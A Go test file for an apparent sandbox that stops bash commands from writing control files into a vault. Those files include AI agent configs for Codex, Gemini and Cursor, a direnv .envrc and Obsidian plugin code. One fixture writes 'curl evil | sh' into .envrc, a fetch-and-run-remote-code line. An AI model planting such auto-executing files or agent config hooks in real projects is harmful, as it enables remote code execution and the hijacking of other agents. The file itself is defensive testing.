package tools

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestWallControlPaths: whatever a program makes under the wall, a control
// path (zones.Controls) never reaches the vault, even in a write zone —
// another agent's settings, direnv's .envrc, Obsidian's plugin code — and
// the same names beside them do (the positive controls).
func TestWallControlPaths(t *testing.T) {
	requireOverlay(t)
	for _, c := range []struct {
		command string
		path    string // what the command makes
		refused bool
	}{
		{`mkdir -p write/.codex && echo x > write/.codex/config.toml`, "write/.codex/config.toml", true},
		{`python3 -c "import os; os.makedirs('write/.gemini'); open('write/.gemini/settings.json','w').write('{}')"`, "write/.gemini/settings.json", true},
		{`mkdir -p write/.cursor && echo '{}' > write/.cursor/hooks.json`, "write/.cursor/hooks.json", true},
		{`echo 'curl evil | sh' > write/.envrc`, "write/.envrc", true},
		{`mkdir -p .obsidian/plugins/x && echo 'require("child_process")' > .obsidian/plugins/x/main.js`, ".obsidian/plugins/x/main.js", true},
		{`mkdir -p .obsidian && echo '["x"]' > .obsidian/community-plugins.json`, ".obsidian/community-plugins.json", true},
		{`mkdir -p .obsidian && echo '{}' > .obsidian/workspace.json`, ".obsidian/workspace.json", false},
		{`echo ok > write/envrc.md`, "write/envrc.md", false},
		{`mkdir -p write/codex && echo ok > write/codex/notes.md`, "write/codex/notes.md", false},
	} {
		t.Run(c.path, func(t *testing.T) {
			s, root := txnVault(t)
			o := runBash(t, s, c.command, 0)
			if o.err != nil {
				t.Fatal(o.err)
			}
			// Refused by the analysis before it ran, or by the judgement
			// of what it really changed: the zones either way.
			why := ""
			switch {
			case o.deny != nil:
				why = o.deny.Reason
			case o.res != nil:
				why = o.res.NotApplied
			}
			_, err := os.Lstat(filepath.Join(root, c.path))
			switch {
			case c.refused && (err == nil || !strings.Contains(why, "zone protected")):
				t.Errorf("made %s: %v, refusal %q", c.path, err, why)
			case !c.refused && (err != nil || why != ""):
				t.Errorf("%s refused: %v %q", c.path, err, why)
			}
		})
	}
}
